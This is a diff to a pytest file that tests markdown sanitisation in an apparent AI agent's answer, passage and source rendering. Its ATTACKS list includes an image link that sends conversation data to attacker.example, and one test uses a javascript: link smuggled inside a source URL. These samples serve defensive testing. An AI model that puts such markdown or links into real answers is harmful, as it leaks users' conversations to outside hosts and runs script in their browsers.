@@ -8,7 +8,11 @@ import re
 import pytest
 from markdown_it import MarkdownIt
 
-from agents.presenters import answer_markdown, passage_markdown, sources_markdown
+from agents.presenters import answer_markdown, passage_markdown, safe_markdown, source_label, source_markdown
+from agents.ui_text import Labels
+from agents.visitor_view import VisitorPassage, visitor_answer
+
+ENGLISH = Labels("en")
 
 ATTACKS = [
     "![t](https://attacker.example/leak.png?d=conversation)",
@@ -32,24 +36,42 @@ def _assert_harmless(html: str) -> None:
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_an_answer_cannot_load_an_image_or_link_to_another_scheme(attack: str) -> None:
-    _assert_harmless(_html(answer_markdown(f"Voici [1]. {attack}", [{"number": 1, "url": "https://a.org"}])))
+    view = visitor_answer(f"Voici [1]. {attack}", [{"number": 1, "title": "A", "url": "https://a.org"}], [])
+    _assert_harmless(_html(answer_markdown(view)))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_answer_being_streamed_cannot_either(attack: str) -> None:
+    _assert_harmless(_html(safe_markdown(f"Voici [1]. {attack}")))
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_a_cited_passage_cannot_either(attack: str) -> None:
-    _assert_harmless(_html(passage_markdown({"number": 1, "title": "T", "text": f"Texte.\n{attack}"})))
+    passage = VisitorPassage(passage=1, section=attack, text=f"Texte.\n{attack}")
+    _assert_harmless(_html(passage_markdown(passage, ENGLISH)))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_source_title_cannot_either(attack: str) -> None:
+    view = visitor_answer("Voir [1].", [{"number": 1, "title": attack, "url": "https://a.org"}], [])
+    _assert_harmless(
+        _html(source_label(view.sources[0]) + "\n\n" + source_markdown(view.sources[0], ENGLISH))
+    )
+
+
+def _source_html(url: str, operator: bool = False) -> str:
+    view = visitor_answer("Voir [1].", [{"number": 1, "title": "Page", "url": url}], [])
+    return _html(source_markdown(view.sources[0], ENGLISH, operator=operator))
 
 
 def test_a_source_url_holding_markdown_stays_one_link_to_itself() -> None:
     url = "https://example.org/page>)[evil](javascript:alert(1)"
 
-    html = _html(sources_markdown([{"number": 1, "title": "Page", "url": url}]))
-
-    _assert_harmless(html)
-    assert html.count("<a ") == 1 and "evil" not in html.split("</a>")[1]
+    for operator in (False, True):
+        html = _source_html(url, operator)
+        _assert_harmless(html)
+        assert html.count("<a ") == 1 and "evil" not in html.split("</a>")[1].split("<code>")[0]
 
 
 def test_a_source_that_is_not_a_web_page_is_not_a_link() -> None:
-    html = _html(sources_markdown([{"number": 1, "title": "Guide", "url": "data:text/html,x"}]))
-
-    assert "<a " not in html
+    assert "<a " not in _source_html("data:text/html,x") + _source_html("data:text/html,x", operator=True)
